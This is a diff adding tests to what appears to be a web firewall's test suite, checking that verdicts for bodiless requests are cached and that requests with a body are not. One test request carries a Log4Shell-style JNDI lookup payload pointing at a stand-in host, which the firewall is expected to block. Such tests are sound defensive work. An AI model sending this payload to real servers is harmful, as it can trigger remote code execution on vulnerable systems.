@@ -61,6 +61,36 @@ describe('createFirewall', () => {
   });
 });
 
+describe('remembered verdicts of bodiless requests', () => {
+  it('answers a repeated request with the same verdict, and a request differing in any header on its own', () => {
+    const firewall = createFirewall();
+    const clean = get('/api/v1/bars?symbols=AAPL', {
+      'user-agent': 'Mozilla/5.0',
+      accept: 'application/json',
+    });
+    const first = firewall.inspect(clean);
+    expect(first.action).toBe('allow');
+    expect(firewall.inspect({ ...clean, headers: { ...clean.headers } })).toBe(first);
+    const attack = get('/api/v1/bars?symbols=AAPL', {
+      'user-agent': 'Mozilla/5.0',
+      accept: 'application/json',
+      'x-api-version': '${jndi:ldap://evil.example/a}',
+    });
+    expect(firewall.inspect(attack).action).toBe('block');
+    expect(firewall.inspect(attack).action).toBe('block');
+    expect(firewall.inspect(clean)).toBe(first);
+  });
+
+  it('never remembers requests with a body, and not at all when caching is off', () => {
+    const firewall = createFirewall({ verdictCacheSize: 0 });
+    const clean = get('/api/v1/clock', { 'user-agent': 'Mozilla/5.0' });
+    expect(firewall.inspect(clean)).not.toBe(firewall.inspect(clean));
+    const cached = createFirewall();
+    const body = postJson('/api/v1/watchlists', { name: 'Tech' });
+    expect(cached.inspect(body)).not.toBe(cached.inspect(body));
+  });
+});
+
 describe('exclusions', () => {
   const route = 'POST /api/v1/signals';
 
